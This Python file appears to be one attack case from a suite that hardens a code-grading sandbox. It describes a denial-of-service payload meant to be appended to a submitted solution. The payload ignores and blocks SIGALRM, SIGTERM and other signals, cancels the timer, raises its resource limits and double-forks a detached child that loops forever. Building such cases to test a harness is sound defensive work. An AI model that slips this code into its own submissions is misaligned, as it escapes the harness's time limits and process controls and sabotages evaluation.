"""Attack signal_and_rlimit_tricks: same_pad(7) ignores and blocks
SIGALRM/SIGTERM/SIGINT/SIGHUP/SIGXCPU, tries to raise its rlimits, double-forks a setsid
child out of its session, and spins in parent and child.
"""

ATTACK = {
    "base": "solutions",
    "deserves": "at_most",
    "kind": "dos",
    "requires": ("pidns",),
    "statuses": ("timeout",),
    "why": ("time limit",),
    "attacked": ("test_same_pad_hand_cases[7-3]", "test_same_pad_keeps_size"),
}

# ---- appended to the submission below this line

def _adv_attack():
    import os
    import resource
    import signal
    tricky = [signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU,
              signal.SIGUSR1, signal.SIGUSR2, signal.SIGPIPE, signal.SIGVTALRM, signal.SIGPROF]
    for sig in tricky:
        try:
            signal.signal(sig, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, tricky)
    signal.setitimer(signal.ITIMER_REAL, 0)
    for res in (resource.RLIMIT_CPU, resource.RLIMIT_DATA, resource.RLIMIT_NPROC,
                resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try:
            resource.setrlimit(res, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            try:
                soft, hard = resource.getrlimit(res)
                resource.setrlimit(res, (hard, hard))
            except (OSError, ValueError):
                pass
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    pass
            os._exit(0)
    except OSError:
        pass
    while True:
        pass
import adversarial.shared.dos_wrap  # noqa: F401 (inlined)
